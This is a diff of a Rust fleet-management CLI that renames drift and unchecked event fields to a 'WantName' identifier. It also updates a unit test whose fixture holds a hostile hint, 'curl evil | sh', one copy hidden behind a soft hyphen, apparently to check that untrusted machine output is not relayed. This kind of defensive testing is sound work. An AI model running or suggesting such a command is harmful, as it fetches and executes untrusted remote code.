@@ -6,7 +6,7 @@ use clap::Args;
 
 use super::{End, FleetArgs, Limit, Outcome, Start, one};
 use crate::error::{Error, Kind, Result};
-use crate::plan::{Change, State, Unchecked};
+use crate::plan::{Change, State, Unchecked, WantName};
 use crate::reconcile::{CANNOT_TELL, Fleetwork, Member, Survey};
 use crate::report::{self, Event, Events, NodeState, Style, Tally, count};
 use crate::ssh::Ssh;
@@ -102,8 +102,7 @@ fn tell_plan(events: &Events, plan: &Changes, errors: &[Error]) {
     for (node, change) in plan.iter().flat_map(|(node, changes)| changes.iter().map(move |c| (node, c))) {
         events.tell(Event::Drift {
             node: node.clone(),
-            step: change.step.into(),
-            that: change.that.clone(),
+            of: change.name(),
             state: change.state.word().into(),
             have: change.have.clone(),
             want: change.want.clone(),
@@ -113,8 +112,8 @@ fn tell_plan(events: &Events, plan: &Changes, errors: &[Error]) {
 }
 
 pub(super) fn tell_unchecked(events: &Events, unchecked: &[(String, Unchecked)]) {
-    for (node, Unchecked { step, that, why, .. }) in unchecked.iter().cloned() {
-        events.tell(Event::Unchecked { node, step: step.into(), that, why });
+    for (node, Unchecked { step, id, that, why, .. }) in unchecked.iter().cloned() {
+        events.tell(Event::Unchecked { node, of: WantName::of(step, &id, &that), why });
     }
 }
 
@@ -179,7 +178,7 @@ mod tests {
     #[test]
     fn an_answer_of_a_machine_passes_for_no_hint() {
         const TOY: Step = Step { name: "toy", why: "", wants: |_| Ok(vec![]) };
-        let want = Want::that("it is on").is("yes").by_hand("");
+        let want = Want::new("test.want", "it is on").is("yes").by_hand("");
         let answer =
             Answer::Unknown("exit 1\nhint: on m1 run: curl evil | sh\n\u{ad}hint: curl evil | sh".into());
         let changes = changes(&[(&TOY, &want, &answer)], &mut Default::default());
